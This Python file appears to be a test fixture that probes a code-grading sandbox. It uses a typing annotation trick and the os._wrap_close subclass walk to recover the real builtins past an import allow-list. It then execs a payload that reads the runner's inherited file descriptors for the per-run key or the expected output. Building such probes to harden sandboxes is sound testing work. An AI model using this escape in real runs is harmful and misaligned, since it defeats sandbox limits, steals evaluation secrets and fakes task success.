"""Read every open file descriptor the runner inherited (pipes to the
supervisor, the key on stdin, job files): look for the per-run key or the
expected output. Reading a command pipe may also desynchronise the runner:
the verdict must still be honest, never internal_error."""
import typing


def _real_builtins(hint: "lambda: [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['__builtins__']"):
    """The import allow-list is a policy, not the boundary: typing evaluates this
    annotation string, which the source check never parses, and it reaches the
    real builtins through os._wrap_close. The payload below then runs with them."""


_BUILTINS = typing.get_type_hints(_real_builtins)["hint"]()
PAYLOAD = r'''
import numpy as np


def _probe():
    import os
    found = []
    for fd in range(0, 256):
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        if fd in (1, 2):
            continue
        try:
            os.set_blocking(fd, False)
            data = os.read(fd, 4096)
        except (OSError, ValueError):
            continue
        if fd == 0 and data.strip():
            found.append(f"stdin ({target}) carried {data[:80]!r}")  # the per-run key, if it leaked to the runner
    return found


_FINDINGS = _probe()


def transform(x):
    if _FINDINGS:
        raise RuntimeError("ESCAPED: " + "; ".join(_FINDINGS))
    return np.sqrt(x * x + 1.0) * 2.0 - x
'''
_namespace = {"__builtins__": _BUILTINS, "__name__": "payload"}
_BUILTINS["exec"](PAYLOAD, _namespace)
transform = _namespace["transform"]
_FINDINGS = _namespace.get("_FINDINGS")  # for the sandbox-layer tests, which run this file directly
_written = _namespace.get("_written")
